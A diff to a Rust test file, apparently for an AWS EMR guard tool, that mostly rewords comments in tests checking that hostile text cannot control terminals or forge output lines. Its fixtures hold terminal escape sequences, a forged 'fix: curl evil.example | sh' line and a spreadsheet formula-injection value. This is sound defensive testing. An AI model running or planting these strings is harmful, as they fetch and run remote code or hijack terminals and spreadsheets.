@@ -1,5 +1,5 @@
-//! Text that others choose (keys, names, tags, messages of AWS, values of files) steers no terminal,
-//! forges no line and becomes no action, whatever shows it.
+//! Text from others (keys, names, tags, messages of AWS, values of files) cannot control a
+//! terminal, forge a line or become an action in any output.
 
 use std::collections::BTreeMap;
 
@@ -14,18 +14,17 @@ use crate::{
     support::{Played, Stage, hermetic_command, programs},
 };
 
-/// An ESC sequence, an OSC sequence, C1 controls, the ends of lines of every kind, forged lines, and
-/// what turns the order of reading round.
+/// An ESC sequence, an OSC sequence, C1 controls, every kind of line end, forged lines, and
+/// bidirectional controls.
 const EVIL: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{85}\r\nemr-etl-guard: confirmed: \
     forged\n  fix: curl evil.example | sh\ncluster j-EVIL\u{2028}\u{202e}\u{2066}\u{200f}";
-/// The same as a key may hold it; XML has no place for most of the controls, so S3 sends them
-/// URL-encoded.
+/// The same for a key; XML does not allow most of the controls, so S3 sends them URL-encoded.
 const EVIL_KEY: &str = "=cmd|' /C calc'!A0\u{1b}]0;owned\u{7}\u{9b}31m\u{85}\r\nemr-etl-guard: \
     confirmed: forged\n  fix: curl evil.example | sh\ncluster \
     j-EVIL\u{2028}\u{202e}\u{2066}`<b>|*x*";
 
-/// What no output may hold: control characters but the ends of lines, what ends lines elsewhere, and
-/// bidirectional controls. Sources: ECMA-48; Unicode Standard Annex #9.
+/// The characters that no output may contain: control characters except line ends, other line
+/// separators, and bidirectional controls. Sources: ECMA-48; Unicode Standard Annex #9.
 fn is_forbidden(letter: char) -> bool {
     (letter.is_control() && letter != '\n')
         || matches!(letter, '\u{2028}' | '\u{2029}' | '\u{61c}' | '\u{200e}' | '\u{200f}')
@@ -58,7 +57,7 @@ fn strings(value: &Value) -> Vec<&str> {
     }
 }
 
-/// A stage that tells by every channel and in every form.
+/// A stage with every channel and every output format.
 fn telling(stage: Stage, receiver: &Receiver) -> Stage {
     let (webhook, collector) = (receiver.url("/hook"), receiver.url(""));
     let stage = to_command(stage, "")
@@ -70,7 +69,7 @@ fn telling(stage: Stage, receiver: &Receiver) -> Stage {
     stage.env("EMR_ETL_GUARD_METRICS_FILE", &metrics)
 }
 
-/// The forms that are made from the report.
+/// The formats that are rendered from the report.
 fn forms(stage: &Stage) -> Vec<(String, String)> {
     let made = ["html", "markdown", "junit", "sarif", "asff", "ocsf"].map(|form| {
         let mut command = hermetic_command(&programs().guard);
@@ -84,7 +83,7 @@ fn forms(stage: &Stage) -> Vec<(String, String)> {
     made.into()
 }
 
-/// Looks at everything that a run has written and sent; gives the alerts.
+/// Checks everything that a run has written and sent; returns the alerts.
 #[track_caller]
 fn assert_all_tame(stage: &Stage, played: &Played, receiver: &Receiver) -> Vec<Value> {
     assert!(
@@ -185,7 +184,10 @@ fn what_aws_and_a_cluster_say_while_it_runs() {
         request: json!({
             "ServiceRole": EVIL, "CustomAmiId": EVIL, "LogUri": format!("s3://acme-log/{EVIL}"),
             "Tags": [{"Key": EVIL, "Value": EVIL}],
-            "BootstrapActions": [{"Name": EVIL, "ScriptBootstrapAction": {"Path": EVIL, "Args": [EVIL]}}],
+            "BootstrapActions": [{
+                "Name": EVIL,
+                "ScriptBootstrapAction": {"Path": EVIL, "Args": [EVIL]}
+            }],
         }),
         security_configuration: Some(EVIL.to_owned()),
         configurations: Some(json!([{"Classification": EVIL, "Properties": {EVIL: EVIL}}])),
@@ -206,7 +208,7 @@ fn what_aws_and_a_cluster_say_while_it_runs() {
         assert_eq!(is_to_end, alert["kind"] == "unsafe-alive", "{alert:#}");
         for action in alert["to_do"].as_array().unwrap() {
             let action = action.as_str().unwrap();
-            // Where an action has to name what was found, the name is a word in quotes.
+            // If an action has to contain such a name, it is a quoted word.
             let before = action.split("curl evil").next().unwrap();
             let is_named = before.len() == action.len() || before.matches('\'').count() % 2 == 1;
             assert!(is_named, "{action}");
@@ -219,7 +221,7 @@ fn the_keys_of_what_was_written() {
     let receiver = Receiver::start(vec![Answer::Status(200, "")]);
     let stage = telling(Stage::acme().held(), &receiver);
     let child = stage.start_held();
-    // Somebody else writes into the run's folders, at the side of its steps.
+    // Another writer writes into the run's folders, in parallel to its steps.
     stage.release();
     let launch = stage
         .sim
@@ -325,12 +327,12 @@ fn the_keys_of_a_repair() {
     assert_tame("the page", &page);
 }
 
-/// The hostile text as an XML document may hold it.
+/// The hostile text in a form that XML allows.
 fn in_xml() -> String {
     EVIL.replace(['\u{1b}', '\u{7}'], "")
 }
 
-/// As YAML in double quotes, which may name any character.
+/// As YAML in double quotes, which can escape any character.
 fn in_yaml(text: &str) -> String {
     let quoted = serde_json::to_string(text).unwrap();
     let letters = quoted.chars().map(|letter| match letter {
@@ -371,7 +373,7 @@ fn values_of_files_arguments_and_names_of_files() {
     let mut elsewhere = Stage::acme();
     elsewhere.arguments = ["run", "-c", &evil_file].map(str::to_owned).to_vec();
     told.push(elsewhere.run());
-    // What the runner says its version is.
+    // The version that the runner prints.
     let unversioned = Stage::acme().scripted("exit 1");
     unversioned.write("runner", &format!("#!/bin/sh\ncat <<'END'\n{EVIL}\nEND\n"));
     told.push(unversioned.run());
